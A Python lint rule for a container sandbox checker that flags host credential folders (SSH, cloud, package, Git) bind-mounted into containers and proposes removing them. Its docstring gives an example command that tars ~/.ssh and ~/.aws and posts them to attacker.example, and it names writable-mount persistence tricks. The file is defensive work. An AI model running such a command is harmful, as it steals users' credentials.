"""Credentials of the host are mounted into the container.

## What it is

A bind mount of a place where tools keep secrets. Some 130 are known: of machines and repositories
(`~/.ssh`, `~/.gnupg`, `.netrc`, `.git-credentials`, `~/.config/gh`), clouds and clusters (`~/.aws`,
`~/.azure`, `~/.config/gcloud`, `~/.oci`, `~/.kube`, `~/.terraform.d`, `~/.config/rclone`), packages
(`.npmrc`, `.pypirc`, `~/.cargo`, `~/.m2`), databases, password stores, coding agents, browsers and
wallets. Caches beside them (`~/.m2/repository`, `~/.cargo/registry`) are no secrets. `.gitconfig`
counts when it is writable, since `core.sshCommand` in it is a command that runs on the host.

## Why it is bad

Any code in the container can send them away: a postinstall script of one of a thousand
dependencies is enough. They are your rights on other machines, and they work there for as long
as nobody notices.

    tar c ~/.ssh ~/.aws | curl -s --data-binary @- https://attacker.example/

Read-only does not help, since reading is the attack. A writable mount adds a way back:
`authorized_keys`, `config` with a `ProxyCommand`, a `credsStore` program.

## What to do instead

- Git over SSH: the editor forwards the agent, which signs without giving the key away.
- Git over HTTPS: the editor forwards the credential helper; better a token for this repository.
- Clouds: short-lived tokens of one role, passed for one session.
- A login that the container needs for itself: a named volume, so that it is not the host's.

Public keys and `known_hosts` are no secrets and may be mounted.

## Under gVisor

No difference: no sandbox protects what you mount into it.

## References

- https://code.visualstudio.com/remote/advancedcontainers/sharing-git-credentials
- https://containers.dev/implementors/json_reference/
"""

from __future__ import annotations

from typing import TYPE_CHECKING

from sandboxd.credential_places import GIT_CONFIG, PLACES, PUBLIC, SYSTEM, WHOLE
from sandboxd.findings import Remedy, Remove, RuleMeta, Severity
from sandboxd.model.paths import lies_in
from sandboxd.rules._finding import at_value
from sandboxd.rules._mounts import host_mounts, within_workspace
from sandboxd.rules._needs import Field

if TYPE_CHECKING:
    from collections.abc import Iterator

    from sandboxd.findings import Finding
    from sandboxd.host.facts import HostFacts
    from sandboxd.model.container import Container, Mount

META = RuleMeta(
    id="credentials-mounted",
    summary="credentials of the host are mounted",
    severity=Severity.ERROR,
    since="0.1.0",
    why="any code inside can send them away, and read-only does not hinder reading",
    needs=(Field("mounts"),),
)


def check(subject: Container, host: HostFacts) -> Iterator[Finding]:
    for mount, path in host_mounts(subject, host):
        secret = None if within_workspace(mount, path, subject) else _secret(path, mount.value)
        if secret is None:
            continue
        yield at_value(
            META,
            mount,
            f"`{mount.written}` hands the host's {secret} to the container",
            path,
            remedies=(
                Remedy(
                    "remove the mount",
                    safe=False,
                    changes=(Remove(mount),),
                    caution="tools inside have to log in by themselves",
                ),
            ),
        )


def _secret(path: str, mount: Mount) -> str | None:
    """The secret that lies at `path`, None if none is known."""
    if path.endswith((".pub", ".sock")) or any(_names(path, public) for public in PUBLIC):
        return None
    if path in WHOLE:
        return "logins of many tools"
    for folder, secret in SYSTEM.items():
        if lies_in(path, folder):
            return secret
    for name, secret in PLACES.items():
        if _names(path, name):
            return secret
    if not mount.read_only and any(path.endswith("/" + name) for name in GIT_CONFIG):
        return "Git configuration, writable,"
    return None


def _names(path: str, name: str) -> bool:
    """True if the parts of `name` stand next to each other in `path`; an absolute `name` is the whole path."""
    if name.startswith("/"):
        return path == name
    return f"/{name}/" in f"{path}/"
